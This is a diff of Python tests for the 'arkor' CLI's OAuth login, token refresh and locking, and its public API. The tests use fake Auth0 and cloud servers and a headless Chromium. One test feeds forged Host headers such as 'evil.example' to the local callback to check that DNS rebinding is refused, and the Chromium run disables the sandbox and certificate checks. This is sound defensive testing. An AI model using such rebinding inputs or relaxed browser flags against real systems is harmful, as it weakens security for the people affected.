+        # `arkor login --oauth --no-browser | tee log` over SSH: stdin is the
+        # terminal, stdout a pipe; pasting must still work.
+        import pty
+
+        master, slave = pty.openpty()
+        proc = subprocess.Popen(
+            [sys.executable, MODULE, "login", "--oauth", "--no-browser", "--timeout=5"],
+            stdin=slave,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            text=True,
+            env=self.env(),
+        )
+        os.close(slave)
+        try:
+            assert proc.stdout is not None
+            # Raw reads with a deadline: a missing prompt must fail, not hang.
+            seen = b""
+            deadline = time.monotonic() + 20
+            while seen.count(b"\n") < 3 and time.monotonic() < deadline:
+                ready, _, _ = select.select([proc.stdout], [], [], 0.1)
+                if ready:
+                    seen += os.read(proc.stdout.fileno(), 4096)
+            browser_line, no_browser, prompt = (seen.decode().split("\n") + ["", "", ""])[:3]
+            self.assertTrue(browser_line.startswith("Browser: https://"), seen)
+            self.assertEqual((no_browser, prompt), (self.NO_BROWSER, self.PASTE))
+            os.write(master, _login_redirect(_login_browser_url(browser_line)).encode() + b"\n")
+            out, err = proc.communicate(timeout=30)
+        finally:
+            if proc.poll() is None:
+                proc.kill()
+            os.close(master)
+        self._record(out, err)
+        self.assertEqual((proc.returncode, out, err), (0, "Signed in\n", ""))
+
+    def test_foreign_host_header_is_refused_without_ending_the_login(self) -> None:
+        port = self.ports[0]
+
+        def rebound(url: str) -> Any:
+            state = _login_query(url)["state"]
+            # A page on evil.example whose name was rebound to 127.0.0.1 (DNS rebinding).
+            for host in (f"evil.example:{port}", "127.0.0.1", f"127.0.0.1:{port + 1}", f"localhost.evil:{port}"):
+                status, headers, body = self.callback(port, f"/callback?code=x&state={state}", host=host)
+                self.assertEqual((status, body), (400, b"Unexpected Host header"), host)
+                self.assertEqual(headers["content-type"], "text/plain; charset=utf-8")
+            self.assertEqual(self.auth0.requests, [])
+            # localhost:<port> is one of ours.
+            location = urlsplit(_login_redirect(url))
+            return browse(f"http://localhost:{port}/callback?{location.query}")
+
+        code, out, err, (status, _, _) = _login_run(self, "--oauth", "--no-browser", "--timeout", "5", browser=rebound)
+        self.assertEqual((code, err, status), (0, "", 200))
+        self.assertTrue(out.endswith("\nSigned in\n"), out)
+
+    def test_only_the_first_callback_counts(self) -> None:
+        # Several callbacks race in: one decides, the others are turned away.
+        import threading
+
+        def many(url: str) -> list[int]:
+            good = urlsplit(_login_redirect(url)).query
+            results: list[int] = []
+
+            def call() -> None:
+                try:
+                    results.append(self.callback(self.ports[0], "/callback?" + good)[0])
+                except OSError:
+                    results.append(-1)  # the listener had already closed
+
+            threads = [threading.Thread(target=call) for _ in range(4)]
+            for t in threads:
+                t.start()
+            for t in threads:
+                t.join(20)
+            return results
+
+        code, out, err, results = _login_run(self, "--oauth", "--no-browser", "--timeout", "5", browser=many)
+        self.assertEqual((code, err), (0, ""))
+        self.assertTrue(out.endswith("\nSigned in\n"), out)
+        self.assertEqual(results.count(200), 1, results)
+        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
+
+
+class ChromiumTest(OAuthCase):
+    """The whole browser leg in a real headless Chromium."""
+
+    CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
+
+    def test_chromium_follows_the_redirect_to_the_listener(self) -> None:
+        if not self.CHROMIUM:
+            if os.environ.get("ARKOR_TEST_REQUIRE_CHROMIUM"):  # set by .ci/run, which installs it
+                self.fail("Chromium is required here but not installed")
+            self.skipTest("Chromium is not installed (Debian: apt-get install chromium)")
+        profile = tempfile.mkdtemp(prefix="arkor-chromium-")
+        self.addCleanup(shutil.rmtree, profile, True)
+        flags = [
+            "--headless",
+            "--no-sandbox",  # as root here
+            "--disable-gpu",
+            f"--user-data-dir={profile}",
+            "--disable-background-networking",  # there is no outside network
+            "--disable-component-update",
+            "--disable-sync",
+            "--no-first-run",
+            "--disable-quic",
+            "--ignore-certificate-errors",  # the fake Auth0's test CA is not in Chromium's store
+            "--virtual-time-budget=10000",
+            "--dump-dom",
+        ]
+        assert self.CHROMIUM is not None
+        chromium = self.CHROMIUM
+
+        def run_chromium(url: str) -> subprocess.CompletedProcess[str]:
+            return subprocess.run(
+                [chromium, *flags, url],
+                capture_output=True,
+                text=True,
+                timeout=120,
+                stdin=subprocess.DEVNULL,
+                check=False,
+            )
+
+        # The login in this process, waiting; Chromium is the browser.
+        code, out, err, browser = _login_run(self, "--oauth", "--no-browser", "--timeout", "120", browser=run_chromium)
+        self.assertEqual((code, err), (0, ""), browser.stderr[-2000:])
+        self.assertTrue(out.endswith("\nSigned in\n"), out)
+        self.assertIn("Signed in to Arkor", browser.stdout)
+        self.assertEqual(self.read_creds()["mode"], "oauth")
+        (authorize,) = self.auth0.seen("GET", "/authorize")
+        self.assertIn("Chrome", authorize.headers.get("user-agent", ""))
+        code, out, _ = self.run_main("whoami")
+        self.assertEqual(code, 0)
+        self.assertTrue(out.endswith("Orgs: ada-personal, analytical\n"), out)
+
+
+# ---------------------------------------------------------------------------
+# Signed-in requests and the Python API
+# ---------------------------------------------------------------------------
+
+
+def refresh_holders(pid: int, lock: str) -> bool:
+    """Whether process ``pid`` has ``lock`` open (Linux /proc): a refresh
+    opens the lock file just before it waits for the lock."""
+    try:
+        names = os.listdir(f"/proc/{pid}/fd")
+    except OSError:
+        return False
+    for name in names:
+        try:
+            if os.readlink(f"/proc/{pid}/fd/{name}") == lock:
+                return True
+        except OSError:  # closed meanwhile
+            continue
+    return False
+
+
+class RefreshTest(OAuthCase):
+    """An OAuth session kept alive with its refresh token."""
+
+    def routes(self) -> list[str]:
+        both = [(r, "auth0") for r in self.auth0.requests] + [(r, "cloud") for r in self.cloud.requests]
+        return [f"{r.method} {r.path}" for r, _ in sorted(both, key=lambda x: x[0].when)]
+
+    def clear_requests(self) -> None:
+        self.auth0.requests.clear()
+        self.cloud.requests.clear()
+
+    def assert_identity(self, out: str) -> None:
+        self.assertTrue(out.startswith('{\n  "id": "auth0|ada"'), out)
+
+    def refresh_form(self, n: int = -1) -> dict[str, str]:
+        """The form of the ``n``-th refresh Auth0 received."""
+        seen = self.auth0.seen("POST", "/oauth/token")[n]
+        self.assertEqual(seen.headers["content-type"], "application/x-www-form-urlencoded")
+        return {k: v[0] for k, v in parse_qs(seen.body.decode()).items()}
+
+    def assert_expires_in_a_day(self, expires_at: Any, before: float, after: float) -> None:
+        """``expiresAt`` is "now + 86400" for a now between two clock reads
+        that bracket the run (never one read compared with another)."""
+        self.assertIsInstance(expires_at, int)
+        self.assertGreaterEqual(expires_at, int(before) + 86400)
+        self.assertLessEqual(expires_at, after + 86400)
+
+    def test_near_expiry_refreshes_before_the_request(self) -> None:
+        old = self.sign_in_oauth(expires_in=30)
+        before = time.time()
+        code, out, err = self.run_main("whoami")
+        after = time.time()
+        self.assertEqual((code, err), (0, ""))
+        self.assert_identity(out)
+        self.assertEqual(self.routes(), ["POST /oauth/token", "GET /v1/me"])
+        self.assertEqual(
+            self.refresh_form(),
+            {"grant_type": "refresh_token", "client_id": self.auth0.client_id, "refresh_token": old["refreshToken"]},
+        )
+        new = self.read_creds()
+        fresh = self.auth0.issued[-1]["access_token"]
+        self.assertEqual(self.cloud.seen("GET", "/v1/me")[0].headers["authorization"], f"Bearer {fresh}")
+        self.assert_expires_in_a_day(new["expiresAt"], before, after)
+        # No rotation: the same refresh token stays, and nothing else changes.
+        self.assertEqual(new, {**old, "accessToken": fresh, "expiresAt": new["expiresAt"]})
+        if POSIX:
+            self.assertEqual(stat.S_IMODE(os.stat(self.creds).st_mode), 0o600)
+        self.assertEqual(self.leftovers(), [])
+
+    def test_rotated_refresh_token_is_stored(self) -> None:
+        self.auth0.rotate = True
+        old = self.sign_in_oauth(expires_in=-100)
+        code, _out, err = self.run_main("whoami")
+        self.assertEqual((code, err), (0, ""))
+        stored = self.read_creds()["refreshToken"]
+        self.assertNotEqual(stored, old["refreshToken"])
+        self.assertEqual(stored, self.auth0.newest_refresh_token())
+        self.assertTrue(self.auth0.accepts(stored))
+        self.assertFalse(self.auth0.accepts(old["refreshToken"]))
+
+    def test_refresh_keeps_the_file_as_it_was(self) -> None:
+        # Only accessToken, expiresAt and a rotated refreshToken change: the
+        # mode tag of either era, fields this CLI does not know, and an absent
+        # arkorCloudApiUrl (files of older Node releases) stay as they were.
+        extra = {"nodeCliField": {"nested": [1, "x", None]}, "email": "ada@example.com", "zz": None}
+        for mode, with_url, rotate in (
+            ("oauth", True, False),
+            ("auth0", False, True),
+            ("oauth", False, True),
+            ("auth0", True, False),
+        ):
+            with self.subTest(mode=mode, with_url=with_url, rotate=rotate):
+                self.auth0.rotate = rotate
+                data = self.sign_in_oauth(expires_in=-100, mode=mode)
+                old = {**data, **extra}
+                if not with_url:
+                    del old["arkorCloudApiUrl"]  # the cloud-api comes from ARKOR_CLOUD_API_URL
+                self.write_creds(old)
+                before = time.time()
+                code, out, err = self.run_main("whoami")
+                after = time.time()
+                self.assertEqual((code, err), (0, ""))
+                self.assert_identity(out)
+                new = self.read_creds()
+                self.assert_expires_in_a_day(new["expiresAt"], before, after)
+                newest = self.auth0.issued[-1]
+                expected = {**old, "accessToken": newest["access_token"], "expiresAt": new["expiresAt"]}
+                if rotate:
+                    expected["refreshToken"] = newest["refresh_token"]
+                self.assertEqual(new, expected)
+                self.assertEqual("arkorCloudApiUrl" in new, with_url)
+
+    def test_rotated_refresh_token_survives_a_malformed_answer(self) -> None:
+        # Auth0 rotates (the refresh token sent is spent) but the rest of its
+        # answer is wrong. The new refresh token must be stored anyway, with
+        # the access token marked expired, and used by the next command: the
+        # spent one would be refused (and, at Auth0, end the whole session).
+        self.auth0.rotate = True
+        bad_token = "at-not a token"
+        self.secrets.append(bad_token)
+        cases: list[tuple[str, Callable[[dict[str, Any]], object], str]] = [
+            ("expires_in as a string", lambda a: a.update(expires_in="3600"), "expires_in is not valid"),
+            ("no access token", lambda a: a.pop("access_token"), "missing access_token"),
+            ("a garbage access token", lambda a: a.update(access_token=bad_token), "access_token is not valid"),
+            ("expires_in out of range", lambda a: a.update(expires_in=10**10), "expires_in is not valid"),
+        ]
+        for name, spoil, what in cases:
+            for after_401 in (False, True):
+                with self.subTest(name, after_401=after_401):
+
+                    def malformed(seen: Any, spoil: Callable[[dict[str, Any]], object] = spoil) -> Answer:
+                        answer = self.auth0._default(seen)  # a real rotation: the old refresh token is spent
+                        tokens = json.loads(answer.body)
+                        spoil(tokens)
+                        return Answer(answer.status, tokens)
+
+                    self.auth0.script("POST", "/oauth/token", malformed, lambda seen: self.auth0._default(seen))
+                    self.clear_requests()
+                    old = self.sign_in_oauth(expires_in=3600 if after_401 else -100)
+                    if after_401:
+                        del self.cloud.tokens[old["accessToken"]]
+                    code, out, err = self.run_main("whoami")
+                    self.assertEqual(code, 0)
+                    if after_401:  # the access token is unchanged: the request is not sent again
+                        self.assertEqual(out, "Failed to fetch /v1/me (401). Token may be expired.\n")
+                        self.assertEqual(self.routes(), ["GET /v1/me", "POST /oauth/token"])
+                    else:  # the stored access token is still taken
+                        self.assert_identity(out)
+                        self.assertEqual(self.routes(), ["POST /oauth/token", "GET /v1/me"])
+                    self.assertEqual(
+                        err,
+                        "Auth0 sent a new refresh token in a malformed answer (Unexpected answer from POST"
+                        f" https://{self.auth0.domain}/oauth/token (200): {what}.); it is stored,"
+                        " and the access token will be renewed at the next command.\n",
+                    )
+                    rotated = self.auth0.newest_refresh_token()
+                    self.assertNotEqual(rotated, old["refreshToken"])
+                    self.assertEqual(self.read_creds(), {**old, "refreshToken": rotated, "expiresAt": 0})
+                    self.assertFalse(self.auth0.accepts(old["refreshToken"]))
+
+                    # The next command renews at once, with the new refresh token.
+                    self.clear_requests()
+                    before = time.time()
+                    code, out, err = self.run_main("whoami")
+                    after = time.time()
+                    self.assertEqual((code, err), (0, ""))
+                    self.assert_identity(out)
+                    self.assertEqual(self.routes(), ["POST /oauth/token", "GET /v1/me"])
+                    self.assertEqual(self.refresh_form()["refresh_token"], rotated)
+                    newest = self.auth0.issued[-1]
+                    stored = self.read_creds()
+                    self.assert_expires_in_a_day(stored["expiresAt"], before, after)
+                    self.assertEqual(
+                        stored,
+                        {
+                            **old,
+                            "accessToken": newest["access_token"],
+                            "refreshToken": newest["refresh_token"],
+                            "expiresAt": stored["expiresAt"],
+                        },
+                    )
+
+    def test_malformed_answer_without_a_new_refresh_token_changes_nothing(self) -> None:
+        # Nothing new to keep: the file stays, and the command goes ahead.
+        self.sign_in_oauth(expires_in=30)
+        before = self.creds_bytes()
+        for answer, what in (
+            (Answer(200, {"expires_in": 60}), "missing access_token"),
+            (Answer(200, {"access_token": "at-1", "refresh_token": "rt bad"}), "refresh_token is not valid"),
+            (Answer(200, body=b"<html>rt-x</html>"), "not a JSON object"),
+        ):
+            with self.subTest(what=what):
+                self.auth0.script("POST", "/oauth/token", answer)
+                code, out, err = self.run_main("whoami")
+                self.assertEqual(code, 0)
+                self.assert_identity(out)
+                self.assertEqual(
+                    err,
+                    "Could not renew the access token (Unexpected answer from POST"
+                    f" https://{self.auth0.domain}/oauth/token (200): {what}.); trying the stored one.\n",
+                )
+                self.assertEqual(self.creds_bytes(), before)
+
+    def test_401_refreshes_and_retries_once(self) -> None:
+        old = self.sign_in_oauth(expires_in=3600)
+        del self.cloud.tokens[old["accessToken"]]  # the cloud-api stopped taking it
+        code, out, err = self.run_main("whoami")
+        self.assertEqual((code, err), (0, ""))
+        self.assert_identity(out)
+        self.assertEqual(self.routes(), ["GET /v1/me", "POST /oauth/token", "GET /v1/me"])
+        self.assertEqual(self.read_creds()["accessToken"], self.auth0.issued[-1]["access_token"])
+
+    def test_401_after_a_refresh_is_not_retried_again(self) -> None:
+        self.sign_in_oauth(expires_in=3600)
+        self.cloud.script("GET", "/v1/me", Answer(401, {"error": "nope"}))
+        code, out, err = self.run_main("whoami")
+        self.assertEqual((code, out, err), (0, "Failed to fetch /v1/me (401). Token may be expired.\n", ""))
+        self.assertEqual(self.routes(), ["GET /v1/me", "POST /oauth/token", "GET /v1/me"])
+
+    def test_refused_refresh_falls_back_and_says_how_to_sign_in(self) -> None:
+        for expires_in in (-100, 3600):  # before the request, and after a 401
+            with self.subTest(expires_in=expires_in):
+                self.clear_requests()
+                old = self.sign_in_oauth(expires_in=expires_in)
+                self.auth0.refresh_tokens[old["refreshToken"]]["revoked"] = True
+                del self.cloud.tokens[old["accessToken"]]
+                before = self.creds_bytes()
+                code, out, err = self.run_main("whoami")
+                self.assertEqual(
+                    (code, out, err),
+                    (
+                        0,
+                        "Failed to fetch /v1/me (401). Token may be expired.\n",
+                        (
+                            "The session could not be renewed (Auth0: invalid_grant)."
+                            " Sign in again with `arkor login --oauth`.\n"
+                        ),
+                    ),
+                )
+                self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
+                self.assertEqual(self.creds_bytes(), before)
+
+    def test_unreachable_refresh_goes_ahead_with_the_stored_token(self) -> None:
+        self.sign_in_oauth(expires_in=30)
+        before = self.creds_bytes()
+        self.auth0.script("POST", "/oauth/token", Answer(503, body=b"down for maintenance"))
+        code, out, err = self.run_main("whoami")
+        self.assertEqual(code, 0)
+        self.assert_identity(out)
+        self.assertEqual(
+            err,
+            f"Could not renew the access token (https://{self.auth0.domain}/oauth/token answered 503);"
+            " trying the stored one.\n",
+        )
+        self.assertEqual(self.creds_bytes(), before)
+        # Auth0 gone altogether: the same, with the network's reason.
+        self.auth0.stop()
+        code, out, err = self.run_main("whoami")
+        self.assertEqual(code, 0)
+        self.assert_identity(out)
+        self.assertEqual(
+            err,
+            f"Could not renew the access token (Could not reach https://{self.auth0.domain}/oauth/token:"
+            " Connection refused); trying the stored one.\n",
+        )
+        self.assertEqual(self.creds_bytes(), before)
+
+    def test_concurrent_refreshes_keep_the_newest_refresh_token(self) -> None:
+        # Three processes find the token expired at the same moment; Auth0
+        # rotates and refuses a spent refresh token. Under the lock, one
+        # refreshes and the others adopt its result.
+        self.auth0.rotate = True
+        self.sign_in_oauth(expires_in=-100)
+        lock = os.path.realpath(self.creds + ".lock")
+        if POSIX and os.path.isdir(f"/proc/{os.getpid()}/fd"):
+            import fcntl
+
+            # The lock is held here until all three wait for it: they meet there for sure.
+            with open(lock, "a") as held:
+                fcntl.flock(held.fileno(), fcntl.LOCK_EX)
+                procs = [self.spawn("whoami") for _ in range(3)]
+                self.wait_until(lambda: all(refresh_holders(p.pid, lock) for p in procs))
+        else:  # no /proc: a slow Auth0 makes the refreshes overlap
+            self.auth0.refresh_delay = 0.5
+            procs = [self.spawn("whoami") for _ in range(3)]
+        for proc in procs:
+            out, err = proc.communicate(timeout=30)
+            self._record(out, err)
+            self.assertEqual((proc.returncode, err), (0, ""))
+            self.assert_identity(out)
+        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
+        stored = self.read_creds()["refreshToken"]
+        self.assertEqual(stored, self.auth0.newest_refresh_token())
+        self.assertTrue(self.auth0.accepts(stored))
+
+    def test_login_and_logout_wait_for_a_renewal_in_flight(self) -> None:
+        # A renewal reads, asks Auth0, then writes: a login or a logout in
+        # the middle must wait for it, not be overwritten by its write.
+        import threading
+
+        self.auth0.rotate = True
+        real_try_lock = arkor_cli._try_lock
+        for second in (["login", "--anonymous"], ["logout", "--yes"]):
+            with self.subTest(second=second):
+                waiting = threading.Event()  # the second command found the lock taken
+
+                def try_lock(fd: int, waiting: threading.Event = waiting) -> bool:
+                    taken = real_try_lock(fd)
+                    if not taken:
+                        waiting.set()
+                    return taken
+
+                def slow_refresh(seen: Any, waiting: threading.Event = waiting) -> Answer:
+                    waiting.wait(20)  # Auth0 answers once the second command waits (20: a guard)
+                    return self.auth0._default(seen)
+
+                self.auth0.script("POST", "/oauth/token", slow_refresh)
+                self.clear_requests()
+                self.sign_in_oauth(expires_in=-100)
+                renewing = self.spawn("whoami")
+                self.wait_until(lambda: self.auth0.seen("POST", "/oauth/token"))
+                with mock.patch.object(arkor_cli, "_try_lock", try_lock):
+                    code, out, err = self.run_main(*second)
+                self.assertTrue(waiting.is_set(), "the second command never waited for the lock")
+                renewed_out, renewed_err = renewing.communicate(timeout=30)
+                self._record(renewed_out, renewed_err)
+                self.assertEqual((renewing.returncode, renewed_err), (0, ""))
+                self.assert_identity(renewed_out)
+                self.assertEqual(err, "")
+                if second[0] == "login":
+                    stored = self.read_creds()
+                    self.assertEqual(stored["mode"], "anon")
+                    self.assertEqual(
+                        (code, out), (0, anon_output(stored["anonymousId"], self.creds, stored["orgSlug"]))
+                    )
+                else:
+                    self.assertEqual((code, out), (0, f"Removed {self.creds}.\n"))
+                    self.assertFalse(os.path.exists(self.creds))
+                    # What was revoked is the refresh token the renewal stored, not the spent one.
+                    self.assertEqual([r["token"] for r in self.auth0.revoked], [self.auth0.newest_refresh_token()])
+
+    def test_renewed_but_not_stored_still_serves_the_command(self) -> None:
+        self.sign_in_oauth(expires_in=-100)
+        before = self.creds_bytes()
+        with mock.patch.object(os, "fsync", side_effect=OSError(28, "No space left on device")):
+            code, out, err = self.run_main("whoami")
+        self.assertEqual(code, 0)
+        self.assert_identity(out)
+        self.assertEqual(
+            err,
+            f"Could not write {self.creds}: No space left on device. The renewed token serves this command only.\n",
+        )
+        self.assertEqual(self.creds_bytes(), before)
+        self.assertEqual(self.leftovers(), [])
+
+    @unittest.skipUnless(POSIX, "fcntl")
+    def test_a_lock_held_too_long_is_given_up_with_a_warning(self) -> None:
+        import fcntl
+
+        self.sign_in_oauth(expires_in=-100)
+        with open(self.creds + ".lock", "a") as held, mock.patch.object(arkor_cli, "_LOCK_WAIT", 0.2):
+            fcntl.flock(held.fileno(), fcntl.LOCK_EX)
+            code, out, err = self.run_main("whoami")
+        self.assertEqual(code, 0)
+        self.assert_identity(out)  # the stored access token still works here
+        self.assertEqual(
+            err,
+            f"Could not renew the access token (Another arkor process holds {self.creds}.lock;"
+            " try again in a moment.); trying the stored one.\n",
+        )
+        self.assertEqual(self.auth0.seen("POST", "/oauth/token"), [])
+
+    def test_lock_is_released_after_a_failure(self) -> None:
+        self.sign_in_oauth(expires_in=-100)
+        self.auth0.script("POST", "/oauth/token", Answer(500), lambda seen: self.auth0._default(seen))
+        with mock.patch.object(arkor_cli, "_LOCK_WAIT", 0.2):  # a lock left behind: a warning within 0.2 s
+            code, _out, err = self.run_main("whoami")
+            self.assertEqual(code, 0)
+            self.assertEqual(
+                err,
+                f"Could not renew the access token (https://{self.auth0.domain}/oauth/token answered 500);"
+                " trying the stored one.\n",
+            )
+            code, _out, err = self.run_main("whoami")
+        self.assertEqual((code, err), (0, ""))
+        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 2)
+
+
+class PublicApiTest(OAuthCase):
+    """The functions scripts import: the same ones the commands use."""
+
+    @contextlib.contextmanager
+    def environment(self, **env: str | None) -> Iterator[None]:
+        with mock.patch.dict(os.environ, self.env(**env), clear=True):
+            yield
+
+    def test_exports(self) -> None:
+        self.assertEqual(
+            sorted(arkor_cli.__all__),
+            ["ArkorError", "__version__", "cloud_api_url", "credentials_path", "get_token", "main", "read_credentials"],
+        )
+        for name in arkor_cli.__all__:
+            value = getattr(arkor_cli, name)
+            if callable(value):
+                self.assertTrue(value.__doc__, f"{name} has no docstring")
+
+    def test_signed_out(self) -> None:
+        with self.environment():
+            self.assertEqual(arkor_cli.credentials_path(), self.creds)
+            self.assertIsNone(arkor_cli.read_credentials())
+            self.assertIsNone(arkor_cli.get_token())
+            self.assertEqual(arkor_cli.cloud_api_url(), self.cloud.url)
+        with self.environment(ARKOR_CLOUD_API_URL=None):
+            self.assertEqual(arkor_cli.cloud_api_url(), "https://api.arkor.ai")
+        self.assertEqual(self.cloud.requests, [])
+
+    def test_signed_in_anonymously(self) -> None:
+        self.assertEqual(self.run_main("login", "--anonymous")[0], 0)
+        (token,) = self.cloud.tokens
+        with self.environment(ARKOR_CLOUD_API_URL=None):
+            self.assertEqual(arkor_cli.get_token(), token)
+            self.assertEqual(arkor_cli.cloud_api_url(), self.cloud.url)  # the stored one
+            stored = arkor_cli.read_credentials()
+            assert stored is not None
+            self.assertEqual(stored["mode"], "anon")
+        with self.environment(ARKOR_CLOUD_API_URL="http://127.0.0.1:1/"):
+            self.assertEqual(arkor_cli.cloud_api_url(), "http://127.0.0.1:1")  # the variable wins
+
+    def test_read_credentials_returns_the_file_as_written(self) -> None:
+        for mode in ("oauth", "auth0"):
+            with self.subTest(mode=mode):
+                stored = dict(self.sign_in_oauth(mode=mode), unknown={"kept": [1, None]})
+                self.write_creds(stored)
+                with self.environment():
+                    self.assertEqual(arkor_cli.read_credentials(), stored)  # the mode tag as written
+                self.assertEqual(arkor_cli.read_credentials(self.creds), stored)  # an explicit path
+        anon = self.sign_in_anon()
+        elsewhere = os.path.join(self.home, "elsewhere.json")
+        os.replace(self.creds, elsewhere)
+        self.assertEqual(arkor_cli.read_credentials(elsewhere), anon)
+        with self.environment():
+            self.assertIsNone(arkor_cli.read_credentials())
+        self.assertEqual((self.cloud.requests, self.auth0.requests), ([], []))
+
+    def test_get_token_renews_near_expiry(self) -> None:
+        before = self.sign_in_oauth(expires_in=10, mode="auth0")
+        with self.environment():
+            token = arkor_cli.get_token()
+            self.assertEqual(token, self.auth0.issued[-1]["access_token"])
+            self.assertNotEqual(token, before["accessToken"])
+            self.assertEqual(arkor_cli.get_token(), token)  # fresh now: no second renewal
+            after = dict(arkor_cli.read_credentials() or {})
+        self.assertEqual(len(self.auth0.seen("POST", "/oauth/token")), 1)
+        self.assertEqual(after["accessToken"], token)
+        self.assertEqual(after["mode"], "auth0")  # a renewal keeps the tag
+        # and the token works against the cloud-api
+        code, out, _ = self.run_main("whoami")
+        self.assertEqual(code, 0)
+        self.assertTrue(out.endswith("Orgs: ada-personal, analytical\n"))
+
+    def test_broken_file_raises_the_cli_message(self) -> None:
+        self.write_creds(b"{oops")
+        with self.environment(), self.assertRaises(arkor_cli.ArkorError) as caught:
+            arkor_cli.get_token()
+        self.assertTrue(caught.exception.message.startswith(f"{self.creds} does not hold valid arkor credentials"))
+        self.assertEqual(caught.exception.status, 1)
+
+
+# ---------------------------------------------------------------------------
+# Commands: login, logout, whoami
 # ---------------------------------------------------------------------------
 
 
@@ -558,7 +3699,8 @@ class LoginAnonymousTest(Case):
         code, out, err = self.run_main("login", "--oauth")
         self.assertEqual(code, 1)
         self.assertEqual(
-            err, "OAuth is not configured for this deployment. Re-run without --oauth or pass --anonymous.\n"
+            err,
+            "OAuth is not configured for this deployment. Re-run without --oauth or pass --anonymous.\n",
         )
         self.assertEqual(out, "")
         self.assertEqual([r.path for r in self.cloud.requests], ["/v1/auth/cli/config"])
@@ -602,62 +3744,84 @@ class LoginAnonymousTest(Case):
     def test_failed_anonymous_login_keeps_the_old_file(self) -> None:
         self.sign_in_anon()
         before = self.creds_bytes()
+        endpoint = f"POST {self.cloud.url}/v1/auth/anonymous"
         cases = {
-            "server error": Answer(500, body=b"upstream exploded"),
-            "html": Answer(200, body=b"<html><body>Sign in</body></html>", headers={"Content-Type": "text/html"}),
-            "garbage": Answer(200, body=b"\x00\xff\xfe garbage"),
-            "a list": Answer(200, json_body=[1, 2]),
-            "no token": Answer(200, {"anonymousId": "a", "personalOrg": {"slug": "s"}}),
-            "token not a string": Answer(200, {"token": 7, "anonymousId": "a", "personalOrg": {"slug": "s"}}),
-            "no org": Answer(200, {"token": "t-x", "anonymousId": "a"}),
-            "org without slug": Answer(200, {"token": "t-x", "anonymousId": "a", "personalOrg": {"id": "1"}}),
-        }
-        expected = {
-            "server error": "POST /v1/auth/anonymous failed (500): upstream exploded\n",
-            "html": "Unexpected answer from POST /v1/auth/anonymous (200): not JSON:"
-            " <html><body>Sign in</body></html>\n",
-            "a list": "Unexpected answer from POST /v1/auth/anonymous (200): not a JSON object.\n",
-            "no token": "Unexpected answer from POST /v1/auth/anonymous (200): no token.\n",
-            "token not a string": "Unexpected answer from POST /v1/auth/anonymous (200): no token.\n",
-            "no org": "Unexpected answer from POST /v1/auth/anonymous personalOrg (200): not a JSON object.\n",
-            "org without slug": "Unexpected answer from POST /v1/auth/anonymous (200): no slug.\n",
+            "server error": (
+                Answer(500, body=b"upstream exploded\nat line 2"),
+                f"{endpoint} failed (500): upstream exploded",
+            ),
+            "html": (
+                Answer(
+                    200,
+                    body=b"<html><head><title>Sign\n in</title></head><body>Sign in</body></html>",
+                    headers={"Content-Type": "text/html"},
+                ),
+                (
+                    f"Unexpected answer from {endpoint} (200): not JSON (Expecting value (line 1, column 1)):"
+                    " an HTML page, 'Sign in'."
+                ),
+            ),
+            "garbage": (
+                Answer(200, body=b"\x00\xff\xfe garbage"),
+                (
+                    f"Unexpected answer from {endpoint} (200): not JSON ('utf-8' codec can't decode byte 0xff in"
+                    " position 1: invalid start byte): \\u0000\ufffd\ufffd garbage."
+                ),
+            ),
+            "a list": (Answer(200, json_body=[1, 2]), f"Unexpected answer from {endpoint} (200): not a JSON object."),
+            "no token": (
+                Answer(200, {"anonymousId": "a", "personalOrg": {"slug": "s"}}),
+                f"Unexpected answer from {endpoint} (200): missing token.",
+            ),
+            "token not a string": (
+                Answer(200, {"token": 7, "anonymousId": "a", "personalOrg": {"slug": "s"}}),
+                f"Unexpected answer from {endpoint} (200): token is not valid.",
+            ),
+            "no org": (
+                Answer(200, {"token": "t-x", "anonymousId": "a"}),
+                f"Unexpected answer from {endpoint} (200): missing personalOrg.",
+            ),
+            "org without slug": (
+                Answer(200, {"token": "t-x", "anonymousId": "a", "personalOrg": {"id": "1"}}),
+                f"Unexpected answer from {endpoint} (200): personalOrg is not valid.",
+            ),
         }
         self.secrets.append("t-x")
-        for name, answer in cases.items():
+        for name, (answer, message) in cases.items():
             with self.subTest(name):
                 self.cloud.script("POST", "/v1/auth/anonymous", answer)
                 code, out, err = self.run_main("login", "--anonymous")
-                self.assertEqual(code, 1)
-                self.assertEqual(out, "")
-                if name in expected:
-                    self.assertEqual(err, expected[name])
-                else:
-                    self.assertTrue(err.startswith("Unexpected answer from POST /v1/auth/anonymous (200): not JSON"))
+                self.assertEqual(
+                    (code, out, err),
+                    (1, "", f"{message}\n"),
+                )
                 self.assertEqual(self.creds_bytes(), before)
                 self.assertEqual(self.leftovers(), [])
 
     def test_bad_config_answers(self) -> None:
+        endpoint = f"GET {self.cloud.url}/v1/auth/cli/config"
         cases = {
-            Answer(500, body=b""): "GET /v1/auth/cli/config failed (500): (empty body)\n",
-            Answer(200, body=b"<!doctype html>"): "Unexpected answer from GET /v1/auth/cli/config (200): not JSON:"
-            " <!doctype html>\n",
-            Answer(
-                200, json_body="config"
-            ): "Unexpected answer from GET /v1/auth/cli/config (200): not a JSON object.\n",
-            Answer(200, dict(OAUTH_CONFIG, auth0Domain=5)): "Unexpected answer from GET /v1/auth/cli/config (200):"
-            " auth0Domain is not a string.\n",
-            Answer(200, dict(OAUTH_CONFIG, callbackPorts="52521")): "Unexpected answer from GET"
-            " /v1/auth/cli/config (200): callbackPorts is not a list of ports.\n",
-            Answer(200, dict(OAUTH_CONFIG, callbackPorts=[70000])): "Unexpected answer from GET"
-            " /v1/auth/cli/config (200): callbackPorts is not a list of ports.\n",
+            Answer(500, body=b""): f"{endpoint} failed (500): (empty body)",
+            Answer(200, body=b"<!doctype html>"): f"Unexpected answer from {endpoint} (200):"
+            " not JSON (Expecting value (line 1, column 1)): an HTML page.",
+            Answer(200, json_body="config"): f"Unexpected answer from {endpoint} (200): not a JSON object.",
+            Answer(200, dict(OAUTH_CONFIG, auth0Domain=5)): f"Unexpected answer from {endpoint} (200):"
+            " auth0Domain is not valid.",
+            Answer(200, dict(OAUTH_CONFIG, callbackPorts="52521")): f"Unexpected answer from {endpoint} (200):"
+            " callbackPorts is not valid.",
